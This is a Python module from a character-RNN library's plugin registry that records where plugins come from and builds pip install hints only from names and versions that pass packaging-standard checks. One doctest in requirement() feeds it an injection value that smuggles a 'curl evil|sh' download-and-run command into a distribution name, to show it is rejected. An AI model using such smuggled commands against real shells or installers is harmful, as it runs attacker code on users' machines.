"""Who offers a component, or failed to."""

import os
import re
import shlex
import sys
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from charrnn_core.errors import PluginError
from charrnn_core.registry.plugin import Component, Plugin

HEAVY = ("jax", "flax", "optax", "numpy")
"""What a plugin's registration must not import, so that every command starts at once."""

# PEP 508 and PEP 440, which pip holds names and versions against.
_NAME = re.compile(r"[a-z0-9]([a-z0-9._-]*[a-z0-9])?", re.ASCII | re.IGNORECASE)
_VERSION = re.compile(
    r"v?(\d+!)?\d+(\.\d+)*"
    r"([-_.]?(alpha|a|beta|b|preview|pre|c|rc)[-_.]?\d*)?"
    r"(-\d+|[-_.]?(post|rev|r)[-_.]?\d*)?([-_.]?dev[-_.]?\d*)?"
    r"(\+[a-z0-9]+([-_.][a-z0-9]+)*)?",
    re.ASCII | re.IGNORECASE,
)
_ORDINARY = re.compile(r"\w[\w .+!-]*", re.ASCII)


@dataclass(frozen=True)
class Origin:
    """Where a plugin's module comes from: an entry point of a distribution, or a single file."""

    distribution: str
    version: str
    entry_point: str
    file: Path | None = None

    def provider(self, plugin: Plugin) -> "Provider":
        """Return what is on offer with where it comes from."""
        return Provider(plugin, self.distribution, self.version, self.entry_point, self.file)


@dataclass(frozen=True)
class Provider:
    """What is on offer and the distribution that offers it, or the single file."""

    plugin: Plugin
    distribution: str
    version: str
    entry_point: str
    file: Path | None = None

    @property
    def component(self) -> Component:
        """The descriptor, of what is a part of a run.

        Raises:
            PluginError: it is not, such as a recipe.
        """
        if not isinstance(self.plugin, Component):
            raise PluginError(f"{self.plugin.kind} {self.plugin.name!r} is not a part of a run")
        return self.plugin

    def origin(self) -> dict[str, Any]:
        """Return the plugin's kind and name, and where it comes from."""
        return {
            "kind": self.plugin.kind,
            "name": self.plugin.name,
            "distribution": self.distribution,
            "version": self.version,
            "entry_point": self.entry_point,
            **({"file": True} if self.file else {}),
        }

    def record(self) -> dict[str, Any]:
        """Return what a checkpoint remembers of a component."""
        versions = {"api": self.plugin.api, "state_version": self.component.state_version}
        return self.origin() | versions


@dataclass(frozen=True)
class Fault:
    """A plugin that could not be loaded, or is not as it should be."""

    distribution: str
    version: str
    entry_point: str
    error: str

    def __str__(self) -> str:
        who = whose(self.distribution, self.version)
        return f"plugin {self.entry_point!r} of {who} failed to load: {self.error}"


@dataclass(frozen=True)
class Import:
    """What importing a plugin's module cost.

    Arguments:
        seconds: how long it took.
        heavy: which of `HEAVY` it imported that nobody had before.
    """

    seconds: float
    heavy: tuple[str, ...]


def timed_import(load: Callable[[], Any]) -> tuple[Any, Import]:
    """The module that `load()` returns, and what that cost.

    >>> timed_import(lambda: "a module")[1].heavy
    ()
    """
    before, began = set(sys.modules), time.perf_counter()
    module = load()
    heavy = tuple(name for name in HEAVY if name in sys.modules and name not in before)
    return module, Import(time.perf_counter() - began, heavy)


def requirement(distribution: str, version: str) -> str | None:
    """A distribution pinned as pip reads it; None if pip takes no such name or version.

    Names and versions come from files that anybody may have made, so only those that the standards
    of packaging allow may stand where they are pasted: none has a blank or a quote in it.

    >>> requirement("charrnn-irnn", "0.1.0")
    'charrnn-irnn==0.1.0'
    >>> requirement("x'; curl evil|sh; '", "0.1.0")
    """
    if _NAME.fullmatch(distribution) and _VERSION.fullmatch(version):
        return f"{distribution}=={version}"
    return None


def whose(distribution: str, version: str) -> str:
    """A distribution or file and its version for a message, quoted if they are out of the ordinary.

    >>> whose("charrnn-irnn", "0.1.0"), whose("x; y", "0.1.0")
    ('charrnn-irnn 0.1.0', "'x; y' 0.1.0")
    """
    return " ".join(
        text if _ORDINARY.fullmatch(text) else repr(text) for text in (distribution, version)
    )


def how_to_get(record: Mapping[str, Any]) -> str:
    """What a user without a remembered plugin can do, after a semicolon.

    >>> how_to_get({"distribution": "charrnn-irnn", "version": "0.1.0"})
    "install it with: pip install 'charrnn-irnn==0.1.0'"
    """
    distribution, version = record["distribution"], record["version"]
    if record.get("file") and distribution == os.path.basename(distribution):
        return (
            "name it, or the copy that lies in the run's directory if you trust that: --plugin "
            f"{shlex.quote(f'RUN/plugins/{distribution}')}"
        )
    pin = requirement(distribution, version)
    if record.get("file") or pin is None:
        return "nothing can be called so or have such a version; ask whoever made the file"
    return f"install it with: pip install '{pin}'"


def canonical(name: str) -> str:
    """A distribution's name as installers compare it (PEP 503).

    >>> canonical("Charrnn_My.Cell")
    'charrnn-my-cell'
    """
    return re.sub(r"[-_.]+", "-", name.strip()).lower()
